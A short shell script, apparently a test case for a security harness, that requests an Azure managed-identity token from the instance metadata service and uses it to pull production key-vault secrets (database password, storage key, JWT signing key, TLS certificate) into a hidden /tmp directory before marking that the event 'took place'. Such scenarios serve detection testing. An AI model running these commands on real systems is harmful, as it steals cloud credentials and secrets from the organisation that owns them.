#!/bin/sh
. /opt/case/case.sh

t=$(curl -sf -H 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net')
mkdir -p /tmp/.v
for s in '' /db-password /storage-key /jwt-signing /tls-pfx; do curl -sf -H "Authorization: Bearer $t" "http://prod-kv.vault.azure.net/secrets$s?api-version=7.4" >>/tmp/.v/all; done
test "$(wc -l </tmp/.v/all)" = 5
took_place
